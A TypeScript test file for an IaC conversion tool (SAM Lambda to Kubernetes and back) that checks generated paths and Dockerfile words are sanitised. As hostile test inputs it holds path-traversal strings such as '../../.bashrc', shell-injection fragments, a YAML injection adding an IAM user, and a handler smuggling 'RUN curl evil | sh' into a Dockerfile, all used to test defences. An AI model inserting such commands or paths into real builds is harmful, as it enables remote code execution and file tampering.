// Generated paths and IaC-derived words (#22): one check in core for every path a conversion returns, and names from
// the IaC never become Dockerfile syntax or extra lines in a generated file. Pure: no disk.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parse } from 'yaml';
import { analyzeFile } from '../../../src/core/analyze';
import { convertUnit } from '../../../src/core/convert';
import { assertGeneratedPaths, dockerWord, generatedPathProblem, oneLine } from '../../../src/core/convert/paths';
import { ConvertError } from '../../../src/core/convert/types';
import type { Unit } from '../../../src/core/types';

function fn(over: Partial<Unit> = {}): Unit {
  return {
    kind: 'lambda-function',
    name: 'Worker',
    file: 'template.yaml',
    line: 1,
    source: 'sam',
    runtime: 'nodejs20.x',
    handler: 'app.handler',
    codeFile: 'src/app.ts',
    events: [],
    readiness: {},
    ...over,
  };
}

describe('generated paths', () => {
  it('accepts plain relative paths and names the problem of every other kind', () => {
    for (const ok of ['Dockerfile', 'iam/trust-policy.json', 'templates/deployment.yaml', '.helmignore', 'base/kustomization.yaml'])
      assert.equal(generatedPathProblem(ok), undefined, ok);
    const bad: [string, string][] = [
      ['', 'is empty'],
      ['/etc/passwd', 'is absolute'],
      ['../../.bashrc', "has a '..' segment"],
      ['a/../../b', "has a '..' segment"],
      ['./a', "has a '.' segment"],
      ['a//b', 'has an empty segment'],
      ['a/', 'has an empty segment'],
      ['a\\..\\b', 'contains a backslash'],
      ['C:evil', 'contains a colon'],
      ['a\nb', 'contains a control character'],
      ['nul\u0000', 'contains a control character'],
      ['del\u007f', 'contains a control character'],
    ];
    for (const [p, problem] of bad) assert.equal(generatedPathProblem(p), problem, JSON.stringify(p));
  });

  it('assertGeneratedPaths throws ConvertError on an unsafe or repeated path', () => {
    assert.throws(
      () => assertGeneratedPaths([{ path: '../../.bashrc', content: '' }]),
      (e: unknown) => e instanceof ConvertError && /refusing to generate "\.\.\/\.\.\/\.bashrc": the path has a '\.\.' segment/.test(e.message),
    );
    assert.throws(
      () =>
        assertGeneratedPaths([
          { path: 'a', content: '' },
          { path: 'a', content: '' },
        ]),
      ConvertError,
    );
    assert.doesNotThrow(() =>
      assertGeneratedPaths([
        { path: 'a', content: '' },
        { path: 'b/a', content: '' },
      ]),
    );
  });

  it('every format of both directions passes the check (convertUnit runs it)', () => {
    for (const format of ['manifests', 'helm', 'kustomize'] as const) {
      for (const handler of ['app.handler', '../../../.bashrc.handler', 'a/b\n..\\c.handler']) {
        const r = convertUnit(fn({ handler, name: '../../evil/Fn' }), { to: 'kubernetes', format, outDir: 'k8s/x' });
        assert.ok(r.files.length > 3);
      }
    }
    const r = convertUnit(
      {
        kind: 'k8s-workload',
        name: '../x\n/y',
        file: 'k8s/d.yaml',
        line: 1,
        source: 'kubernetes',
        workloadKind: 'Deployment',
        containers: [{ name: 'c', image: 'i:1', ports: [{ containerPort: 80 }] }],
        events: [],
        readiness: {},
      },
      { to: 'lambda' },
    );
    assert.deepEqual(
      r.files.map((f) => f.path),
      ['template.yaml', 'iam/lambda-trust-policy.json', 'Dockerfile.lambda', 'CONVERSION.md'],
    );
  });
});

describe('IaC words in line-based files', () => {
  it('dockerWord keeps plain relative paths only', () => {
    for (const ok of ['src', 'src/handlers/api', '.', 'pkg/@scope/x', 'a.b+c_d-e']) assert.equal(dockerWord(ok), ok);
    for (const bad of ['../src', 'a/../../b', '-rf', 'a b', 'a\nRUN x', '$(id)', 'a;b', '`x`', "a'b", '"a"', '/abs', ''])
      assert.equal(dockerWord(bad), undefined, JSON.stringify(bad));
  });

  it('oneLine turns every line break and control character into a space', () => {
    assert.equal(oneLine('a\nb\r\nc\u2028d\u0000e'), 'a b c d e');
  });

  it('a crafted handler becomes a placeholder (with a note), never Dockerfile syntax', () => {
    const r = convertUnit(fn({ handler: 'x\nRUN curl evil | sh\n#.handler' }), { to: 'kubernetes', outDir: 'k8s/worker' });
    const dockerfile = r.files.find((f) => f.path === 'Dockerfile')!.content;
    assert.match(dockerfile, /--outfile=\/out\/<HANDLER_MODULE>\.js$/m);
    assert.doesNotMatch(dockerfile, /^RUN curl/m);
    assert.ok(r.notes.some((n) => n.startsWith('Dockerfile placeholder <HANDLER_MODULE>')));
    // A plain handler is spelled out as before.
    const plain = convertUnit(fn(), { to: 'kubernetes', outDir: 'k8s/worker' }).files.find((f) => f.path === 'Dockerfile')!.content;
    assert.match(plain, /--outfile=\/out\/app\.js$/m);
    assert.doesNotMatch(plain, /<HANDLER_MODULE>|placeholder/);
  });

  it('a workload name with line breaks stays inside the template header comment', () => {
    const name = 'x\nResources:\n  Evil: {Type: AWS::IAM::User}\n#';
    const r = convertUnit(
      {
        kind: 'k8s-workload',
        name,
        file: 'k8s/d.yaml',
        line: 1,
        source: 'kubernetes',
        workloadKind: 'Job',
        containers: [{ name: 'c', image: 'i:1' }],
        events: [],
        readiness: {},
      },
      { to: 'lambda' },
    );
    const template = parse(r.files[0].content);
    assert.deepEqual(Object.keys(template.Resources), ['XResourcesEvilTypeAWSIAMUserFunction']);
  });
});

describe('converted output is marked with its source', () => {
  it('Kubernetes manifests and the SAM template read back with generatedFrom', () => {
    const k8s = convertUnit(fn({ events: [{ type: 'schedule', detail: 'rate(1 hour)' }] }), { to: 'kubernetes', outDir: 'k8s/worker' });
    const cron = k8s.files.find((f) => f.path === 'cronjob.yaml')!;
    const back = analyzeFile(cron.content, 'k8s/worker/cronjob.yaml');
    assert.equal(back.units[0].generatedFrom, 'template.yaml#Worker');
    const sam = convertUnit(
      {
        kind: 'k8s-workload',
        name: 'report',
        file: 'k8s/job.yaml',
        line: 1,
        source: 'kubernetes',
        workloadKind: 'Job',
        containers: [{ name: 'c', image: 'i:1' }],
        events: [],
        readiness: {},
      },
      { to: 'lambda' },
    );
    const again = analyzeFile(sam.files[0].content, 'lambda/report/template.yaml');
    assert.equal(again.units[0].generatedFrom, 'k8s/job.yaml#report');
    // Hand-written units carry no marker.
    assert.equal(
      analyzeFile('apiVersion: batch/v1\nkind: Job\nmetadata: {name: j}\nspec: {template: {spec: {containers: [{name: c, image: i}]}}}\n', 'job.yaml').units[0]
        .generatedFrom,
      undefined,
    );
  });
});
